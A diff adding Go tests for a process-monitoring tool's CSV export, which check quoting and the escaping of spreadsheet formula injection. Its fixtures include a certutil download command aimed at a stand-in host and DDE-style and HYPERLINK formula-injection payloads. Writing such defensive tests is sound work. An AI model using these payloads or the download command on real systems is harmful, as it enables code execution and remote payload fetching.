@@ -0,0 +1,75 @@
+package main
+
+import (
+	"encoding/csv"
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"testing"
+	"time"
+)
+
+func TestCSVExport(t *testing.T) {
+	resetEvents(t)
+	at := time.Date(2026, 3, 1, 9, 30, 0, 0, time.UTC)
+	stored := []ProcessEvent{
+		{Timestamp: at, ProcessID: 100, ParentID: 4, User: `CORP\alice`, ExecutablePath: `C:\Windows\System32\cmd.exe`,
+			CommandLine: `cmd.exe /c echo "a, b" > "C:\x y.txt"`, Suspicious: true, Severity: SeverityHigh, Reason: "quoted, with commas"},
+		{Timestamp: at, ProcessID: 101, User: "bob", ExecutablePath: `C:\Windows\System32\certutil.exe`,
+			CommandLine: "certutil.exe -f\r\n-urlcache\nhttp://evil.example/a", Reason: "line one\nline two"},
+		// Formula injection through each field a user controls
+		{Timestamp: at, ProcessID: 102, User: "=HYPERLINK(\"http://evil.example\")", ExecutablePath: "+cmd.exe",
+			CommandLine: `=cmd|' /c calc'!A0`, Reason: "@SUM(1+1)"},
+		{Timestamp: at, ProcessID: 103, User: "-2+3", ExecutablePath: "@calc.exe",
+			CommandLine: "+1+cmd|' /c calc'!A0", Reason: "-1"},
+		{Timestamp: at, ProcessID: 104, CommandLine: "\t=1+1", Reason: "\r=1+1"},
+	}
+	for _, event := range stored {
+		storeEvent(event)
+	}
+
+	rec := httptest.NewRecorder()
+	getCSVEvents(rec, httptest.NewRequest(http.MethodGet, "/api/events.csv", nil))
+	if rec.Code != http.StatusOK || rec.Header().Get("Content-Type") != "text/csv; charset=utf-8" {
+		t.Fatalf("status %d, Content-Type %q", rec.Code, rec.Header().Get("Content-Type"))
+	}
+	records, err := csv.NewReader(rec.Body).ReadAll()
+	if err != nil {
+		t.Fatalf("export doesn't parse as CSV: %v", err)
+	}
+
+	timestamp := at.Format(time.RFC3339Nano)
+	want := [][]string{
+		csvHeader,
+		{timestamp, "100", "4", `CORP\alice`, `C:\Windows\System32\cmd.exe`, `cmd.exe /c echo "a, b" > "C:\x y.txt"`, "true", "high", "quoted, with commas"},
+		// encoding/csv reads \r\n inside a quoted field back as \n
+		{timestamp, "101", "0", "bob", `C:\Windows\System32\certutil.exe`, "certutil.exe -f\n-urlcache\nhttp://evil.example/a", "false", "", "line one\nline two"},
+		{timestamp, "102", "0", "'=HYPERLINK(\"http://evil.example\")", "'+cmd.exe", `'=cmd|' /c calc'!A0`, "false", "", "'@SUM(1+1)"},
+		{timestamp, "103", "0", "'-2+3", "'@calc.exe", "'+1+cmd|' /c calc'!A0", "false", "", "'-1"},
+		{timestamp, "104", "0", "", "", "'\t=1+1", "false", "", "'\r=1+1"},
+	}
+	if len(records) != len(want) {
+		t.Fatalf("%d records, want %d: %q", len(records), len(want), records)
+	}
+	for i := range want {
+		if !reflect.DeepEqual(records[i], want[i]) {
+			t.Errorf("record %d = %q, want %q", i, records[i], want[i])
+		}
+	}
+}
+
+func TestCSVExportEmpty(t *testing.T) {
+	resetEvents(t)
+	rec := httptest.NewRecorder()
+	getCSVEvents(rec, httptest.NewRequest(http.MethodGet, "/api/events.csv", nil))
+	records, err := csv.NewReader(rec.Body).ReadAll()
+	if err != nil || len(records) != 1 || !reflect.DeepEqual(records[0], csvHeader) {
+		t.Errorf("records %q, %v, want the header only", records, err)
+	}
+
+	rec = httptest.NewRecorder()
+	getCSVEvents(rec, httptest.NewRequest(http.MethodGet, "/api/events.csv?limit=0", nil))
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("invalid limit: status %d, want 400", rec.Code)
+	}
+}